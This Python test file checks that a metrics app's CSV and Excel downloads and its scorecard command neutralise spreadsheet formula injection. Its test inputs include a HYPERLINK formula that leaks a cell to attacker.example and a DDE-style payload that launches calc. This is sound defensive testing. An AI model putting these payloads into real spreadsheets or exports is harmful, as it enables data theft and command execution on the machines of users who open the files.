"""Downloads and the scorecard command cannot run code in a spreadsheet (CSV and formula injection)."""

from __future__ import annotations

import io

import openpyxl
import pandas as pd
import pytest

from metrics.commands import scorecard as scorecard_command
from metrics.outputs.exports import csv_bytes, excel_bytes, safe_text
from tests.apptest_helpers import download_bytes, open_page, record_downloads
from tests.conftest import tiny_tables
from tests.helpers import write_snapshot

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+44 1234", "'+44 1234"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tcalc", "'\tcalc"),
        ("\rcalc", "'\rcalc"),
        ("-2.5", "-2.5"),
        ("+3.0", "+3.0"),
        ("12.5%", "12.5%"),
        ("Team A", "Team A"),
        (12.5, 12.5),
        (None, None),
    ],
)
def test_text_that_would_start_a_formula_is_prefixed(text, safe):
    assert safe_text(text) == safe


def test_csv_prefixes_text_and_keeps_numbers():
    frame = pd.DataFrame({"team": [HYPERLINK, "West"], "value": [-3.0, 12.0], "note": ["@SUM(1)", "fine"]})
    read = pd.read_csv(io.BytesIO(csv_bytes(frame)), dtype=str)
    assert read["team"].tolist() == ["'" + HYPERLINK, "West"]
    assert read["note"].tolist() == ["'@SUM(1)", "fine"]
    assert read["value"].tolist() == ["-3.0", "12.0"]


def test_excel_keeps_text_as_text_never_a_formula():
    frame = pd.DataFrame({"team": [HYPERLINK, "West"], "value": [-3.0, 12.0]})
    sheet = openpyxl.load_workbook(io.BytesIO(excel_bytes(frame, "scorecard"))).active
    assert sheet["A2"].value == HYPERLINK and sheet["A2"].data_type == "s"
    assert sheet["B2"].value == -3.0 and sheet["B2"].data_type == "n"
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


@pytest.fixture
def injected_root(tmp_path, monkeypatch):
    tables = tiny_tables()
    tables["values"]["team"] = tables["values"]["team"].replace({"Team A": HYPERLINK})
    tables["caseloads"]["team"] = tables["caseloads"]["team"].replace({"Team A": HYPERLINK})
    tables["commentary"]["text"] = ["@SUM(1+1)*cmd|' /C calc'!A0"]
    write_snapshot(tmp_path, "2021-02-10", tables)
    monkeypatch.setenv("PERFORMANCE_DATA_DIR", str(tmp_path))
    monkeypatch.setenv("PERFORMANCE_AUDIENCE", "internal")
    return tmp_path


def test_the_scorecard_command_writes_safe_csv(injected_root, capsys):
    assert scorecard_command.main(["--period", "2021-01", "--team", "all", "--format", "csv"]) == 0
    rows = pd.read_csv(io.StringIO(capsys.readouterr().out), dtype=str, keep_default_na=False)
    assert "'" + HYPERLINK in set(rows["team"])
    assert not rows.map(lambda cell: cell.startswith(("=", "@"))).any().any()


def test_page_downloads_are_safe(injected_root, monkeypatch):
    record_downloads(monkeypatch)
    at = open_page("streamlit_app.py", teams=HYPERLINK, month="2021-01")
    buttons = {button.label: button for button in at.get("download_button")}
    csv = pd.read_csv(io.BytesIO(download_bytes(buttons["Download the scorecard (CSV)"])), dtype=str)
    assert set(csv["team"]) == {"'" + HYPERLINK}
    sheet = openpyxl.load_workbook(io.BytesIO(download_bytes(buttons["Download the scorecard (Excel)"]))).active
    texts = [cell for row in sheet.iter_rows() for cell in row if cell.value == HYPERLINK]
    assert texts and all(cell.data_type == "s" for cell in texts)
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
